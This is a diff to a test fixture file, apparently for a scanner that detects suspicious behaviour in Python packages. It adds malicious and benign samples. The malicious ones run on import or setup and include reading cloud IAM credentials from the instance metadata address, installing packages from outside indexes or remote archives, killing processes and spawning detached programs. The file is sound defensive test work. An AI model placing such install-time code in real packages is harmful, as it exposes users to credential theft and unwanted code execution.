@@ -11,6 +11,63 @@ const COMMAND = (body: string): string =>
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a program that is ended when the module is loaded',
+      files: wheel("import os\nos.system('taskkill /F /IM own.exe')\n"),
+      expected: at('program', 'high', 2, 'own/__init__.py'),
+    },
+    {
+      name: 'another index that a setup script names',
+      files: sdist(
+        "import os\nfrom setuptools import setup\nos.system('pip install --index-url https://index.weir.test/simple other')\nsetup(name='own')\n",
+      ),
+      expected: at('package-install', 'high', 3),
+    },
+    {
+      name: 'another runtime when the module is loaded',
+      files: wheel(
+        "import os, subprocess\nsubprocess.Popen(['node', os.path.join(os.path.dirname(__file__), 'own.js')])\n",
+      ),
+      expected: at('program', 'high', 2, 'own/__init__.py'),
+    },
+    {
+      name: 'the keys that a cloud gives its machines',
+      files: wheel(
+        "import requests\nKEYS = requests.get('http://169.254.169.254/latest/meta-data/iam/').text\n",
+      ),
+      expected: at('request', 'high', 2, 'own/__init__.py'),
+    },
+    {
+      name: 'an archive that a module installs by its address',
+      files: wheel(
+        'import os, sys\nos.system(f"{sys.executable} -m pip install https://files.weir.test/a/own-1.0.tar.gz")\n',
+      ),
+      expected: at('package-install', 'high', 2, 'own/__init__.py'),
+    },
+    {
+      name: 'a program that goes on when the module is loaded',
+      files: wheel(
+        'import os, subprocess, sys\nplace = os.getcwd() + "/own.py"\nsubprocess.Popen([sys.executable, place], creationflags=subprocess.DETACHED_PROCESS)\n',
+      ),
+      expected: at('program', 'high', 3, 'own/__init__.py'),
+    },
+    {
+      name: 'a mark that a setup script leaves',
+      files: sdist(
+        'import os\nfrom setuptools import setup\nos.system("echo here > /tmp/mark")\nsetup(name="own")\n',
+      ),
+      expected: at('mark', 'high', 3),
+    },
+    {
+      name: 'a thread that another module lends',
+      files: {
+        ...wheel(
+          'import threading\ndef go():\n    from .ping import ping\n    threading.Thread(target=ping).start()\ngo()\n',
+        ),
+        'own/ping.py': 'import requests\ndef ping():\n    requests.get("https://own.free.weir.test/up")\n',
+      },
+      expected: at('request', 'high', 3, 'own/ping.py'),
+    },
+    {
       name: 'a request of the setup script',
       files: sdist("import requests\nrequests.get('https://count.weir.test/hello')\n"),
       expected: at('request', 'high', 2),
@@ -45,8 +102,54 @@ export const samples: Samples = {
       ),
       expected: at('package-install', 'medium', 2, 'own/__init__.py'),
     },
+    {
+      name: 'a script that the package does not hold',
+      files: {
+        ...sdist(
+          COMMAND('self.spawn()') + "import subprocess\nsubprocess.check_call(['tools\\\\get.bat'])\n",
+        ),
+        'tools/other.bat': 'echo hello\r\n',
+      },
+      expected: at('program', 'high', 9),
+    },
+    {
+      name: 'a build that fetches a file and compares its digest',
+      files: sdist(
+        "import hashlib\nfrom urllib.request import urlretrieve\nurlretrieve('https://files.weir.test/own-1.2.tar.gz', 'own.tar.gz')\nassert hashlib.sha256(open('own.tar.gz', 'rb').read()).hexdigest() == 'ab12'\n",
+      ),
+      expected: at('request', 'medium', 3),
+    },
   ],
   benign: [
+    quiet('a script of its own that builds', {
+      ...sdist("import subprocess\nsubprocess.check_call(['native\\\\build.bat'])\n"),
+      'native/build.bat': '@echo off\r\ncl /O2 /c src\\own.c\r\nlib /OUT:own.lib own.obj\r\n',
+    }),
+    quiet('a helper that gets its address from who calls it', {
+      ...wheel('from .net import ask\nANSWER = ask(get_address())\n'),
+      'own/net.py':
+        "import requests\ndef ask(url):\n    session = requests.Session()\n    return session.request('GET', url)\n",
+    }),
+    quiet(
+      'a question about the processor that a function asks',
+      wheel(
+        "import subprocess\ndef name():\n    return subprocess.check_output(['wmic', 'cpu', 'get', 'name'])\n",
+      ),
+    ),
+    quiet(
+      'another runtime that a function starts',
+      wheel("import subprocess\ndef check(path):\n    return subprocess.run(['node', '--check', path])\n"),
+    ),
+    quiet(
+      'a server that a function starts for itself',
+      wheel(
+        'import subprocess, sys\ndef serve():\n    subprocess.Popen([sys.executable, "-m", "own.server"], start_new_session=True)\n',
+      ),
+    ),
+    quiet(
+      'a command that a function runs in a temporary folder',
+      wheel('import os\ndef mark():\n    os.system("echo here > /tmp/mark")\n'),
+    ),
     quiet(
       'tools of a build',
       sdist(
@@ -66,6 +169,12 @@ export const samples: Samples = {
       'the address under which the machine goes out',
       wheel(
         "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('8.8.8.8', 80))\nADDRESS = s.getsockname()[0]\n",
+      ),
+    ),
+    quiet(
+      'a look whether there is a network',
+      wheel(
+        "import requests\ntry:\n    requests.get('https://example.com/')\nexcept OSError:\n    print('offline')\n",
       ),
     ),
     quiet(
